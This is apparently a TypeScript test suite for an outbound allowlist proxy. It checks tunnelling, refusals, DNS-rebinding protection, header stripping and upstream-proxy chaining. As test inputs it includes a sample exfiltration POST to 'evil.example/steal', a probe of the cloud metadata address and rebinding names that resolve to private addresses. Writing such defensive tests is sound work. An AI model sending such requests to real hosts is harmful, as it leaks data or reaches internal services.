import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer as createTcp, type Socket } from "node:net";
import { test } from "node:test";
import { RELAY_PORT } from "../../src/egress/wrap.ts";
import { listen, names, openProxy, open as openRaw, serve } from "./stage.ts";

test("a tunnel leads to a host on the list, and bytes go both ways as they are", async (t) => {
  const port = await listen(
    t,
    createTcp((socket) => socket.pipe(socket)),
  );
  const { resolve } = names({ "echo.test": ["127.0.0.1"] });
  const { connect, told } = await openProxy(t, { allow: [`echo.test:${port}`] }, resolve);
  const { head, socket } = await connect(`echo.test:${port}`);
  assert.match(head, /^HTTP\/1\.1 200 /);
  const bytes = Buffer.from([0, 1, 2, 253, 254, 255]);
  socket.write(bytes);
  const [back] = (await once(socket.resume(), "data")) as [Buffer];
  assert.deepEqual(back, bytes);
  socket.end();
  await once(socket, "close");
  assert.deepEqual(told().blocked, []);
});

test("any other host is refused with 403 and a sentence, by tunnel and by request, and counted", async (t) => {
  const { connect, ask, told } = await openProxy(t, { allow: ["registry.npmjs.org"] });
  const { head } = await connect("evil.example:443");
  assert.match(head, /^HTTP\/1\.1 403 Forbidden\r\n/);
  const plain = await ask("http://evil.example/steal?all", { method: "POST", body: "data" });
  assert.equal(plain.status, 403);
  assert.match(plain.body, /may not reach evil\.example:80; .*dispatch\.allow/);
  assert.match((await connect("registry.npmjs.org:22")).head, / 403 /);
  assert.match((await connect("169.254.169.254:80")).head, / 403 /);
  assert.deepEqual(
    told().blocked.map(({ host }) => host),
    ["evil.example:443", "evil.example:80", "registry.npmjs.org:22", "169.254.169.254:80"],
  );
});

test("a name on the list that leads to a private address is refused, whatever else it led to before", async (t) => {
  for (const address of ["127.0.0.1", "169.254.169.254", "10.0.0.1", "::1", "::ffff:127.0.0.1"]) {
    const { resolve, asked } = names({ "rebind.test": [address] });
    const { connect, ask, told } = await openProxy(t, { allow: ["rebind.test"] }, resolve);
    assert.match((await connect("rebind.test:443")).head, / 403 /, address);
    assert.equal((await ask("http://rebind.test/")).status, 403);
    assert.deepEqual(asked, ["rebind.test", "rebind.test"]);
    assert.equal(told().blocked.length, 2);
  }
});

test("a name is asked for once a connection: what was checked is what is connected to", async (t) => {
  const port = await listen(
    t,
    createTcp((socket) => socket.end("here")),
  );
  const { resolve, asked } = names({ "turn.test": ["127.0.0.1", "127.0.0.99"] });
  const { connect } = await openProxy(t, { allow: [`turn.test:${port}`] }, resolve);
  assert.match((await connect(`turn.test:${port}`)).head, / 200 /);
  assert.deepEqual(asked, ["turn.test"]);
});

test("a private place is reached where the admin named the address, or the host with its port", async (t) => {
  const place = await serve(t, (_, response) => response.end("inside"));
  const port = Number(place.split(":")[1]);
  const { resolve } = names({ "inside.test": ["127.0.0.1"] });
  for (const [allow, host] of [
    [`127.0.0.1:${port}`, "127.0.0.1"],
    [`inside.test:${port}`, "inside.test"],
  ] as const) {
    const { ask } = await openProxy(t, { allow: [allow] }, resolve);
    assert.equal((await ask(`http://${host}:${port}/`)).body, "inside");
  }
  const { ask } = await openProxy(t, { allow: [`*.test:${port}`] }, resolve);
  assert.equal((await ask(`http://inside.test:${port}/`)).status, 403);
});

test("a plain request arrives as it was asked, without what concerns the proxy alone", async (t) => {
  const seen: unknown[] = [];
  const place = await serve(t, async (request, response) => {
    let body = "";
    for await (const chunk of request) body += chunk;
    seen.push([request.method, request.url, body, request.headers]);
    response.setHeader("x-answer", "yes").writeHead(418).end("short and stout");
  });
  const { ask } = await openProxy(t, { allow: [place] });
  const headers = { "proxy-authorization": "Basic x", connection: "x-mine", "x-mine": "1", "x-keep": "2" };
  const answer = await ask(`http://${place}/a/b?c=d`, { method: "PUT", headers, body: "body" });
  assert.deepEqual([answer.status, answer.body, answer.headers["x-answer"]], [418, "short and stout", "yes"]);
  const [method, url, body, got] = seen[0] as [string, string, string, Record<string, string>];
  assert.deepEqual([method, url, body, got.host, got["x-keep"]], ["PUT", "/a/b?c=d", "body", place, "2"]);
  assert.ok(!("proxy-authorization" in got) && !("x-mine" in got));
});

test("a host that does not answer is told as 502, and is not counted as refused", async (t) => {
  const port = await listen(t, createTcp());
  const { connect, ask, told } = await openProxy(
    t,
    { allow: ["127.0.0.1:9", "gone.test:443"] },
    names({}).resolve,
  );
  assert.ok(port > 0);
  assert.match((await connect("127.0.0.1:9")).head, / 502 /);
  assert.match((await connect("gone.test:443")).head, / 502 /);
  assert.equal((await ask("http://127.0.0.1:9/")).status, 502);
  assert.deepEqual(told().blocked, []);
});

test("what is no request for a proxy is refused, and takes nothing down", async (t) => {
  const { ask, port, connect } = await openProxy(t, {});
  assert.equal((await ask("/")).status, 404);
  assert.equal((await ask("/provider/v1")).status, 404);
  assert.equal((await ask("https://example.com/")).status, 400);
  assert.equal((await ask("ftp://example.com/")).status, 400);
  assert.equal((await ask("http:///")).status, 400);
  assert.equal((await ask("/", { method: "TRACE" })).status, 405);
  assert.match((await connect("nonsense:443:443")).head, / 400 /);
  assert.match((await openRaw(t, port, "\0\0\0 nonsense\r\n\r\n")).head, / 400 /);
  const upgrade = "GET /provider HTTP/1.1\r\nhost: x\r\nconnection: upgrade\r\nupgrade: websocket\r\n\r\n";
  assert.match((await openRaw(t, port, upgrade)).head, / 426 /);
});

test("programs that ask their proxy even for their own machine find the endpoint that way, and nothing else", async (t) => {
  const { ask, connect, told } = await openProxy(t, {});
  assert.equal((await ask(`http://127.0.0.1:${RELAY_PORT}/relay-came`)).status, 204);
  const { head, socket } = await connect(`localhost:${RELAY_PORT}`);
  assert.match(head, / 200 /);
  socket.write("GET /relay-came HTTP/1.1\r\nhost: x\r\n\r\n");
  const [answer] = (await once(socket.resume(), "data")) as [Buffer];
  assert.match(String(answer), /^HTTP\/1\.1 204 /);
  assert.match((await connect("127.0.0.1:22")).head, / 403 /);
  assert.deepEqual(told(), { relayCame: true, blocked: [{ host: "127.0.0.1:22", count: 1 }] });
});

test("the admin's own proxy is gone through, with its password, and private names stay refused", async (t) => {
  const asked: string[] = [];
  const outer = createTcp((socket: Socket) =>
    socket.once("data", (data) => {
      asked.push(String(data));
      if (String(data).startsWith("CONNECT")) socket.write("HTTP/1.1 200 OK\r\n\r\nhello through");
      else socket.end("HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nplain");
    }),
  );
  const address = `http://me:secret@127.0.0.1:${await listen(t, outer)}`;
  const { resolve } = names({ "rebind.test": ["10.0.0.1"] });
  const policy = { allow: ["far.test", "rebind.test"], outer: { http: address, https: address, except: "" } };
  const { connect, ask } = await openProxy(t, policy, resolve);
  const { head, socket } = await connect("far.test:443");
  const rest = head.split("\r\n\r\n")[1] || String((await once(socket.resume(), "data"))[0]);
  assert.equal(rest, "hello through");
  assert.equal((await ask("http://far.test/x")).body, "plain");
  const proof = `Basic ${Buffer.from("me:secret").toString("base64")}`;
  assert.match(asked[0]!, /^CONNECT far\.test:443 HTTP\/1\.1\r\n/);
  assert.match(asked[1]!, /^GET http:\/\/far\.test\/x HTTP\/1\.1\r\n/);
  for (const head of asked)
    assert.ok(head.toLowerCase().includes(`proxy-authorization: ${proof}`.toLowerCase()));
  assert.match((await connect("rebind.test:443")).head, / 403 /);
  assert.match((await connect("elsewhere.test:443")).head, / 403 /);
  assert.equal(asked.length, 2);
});
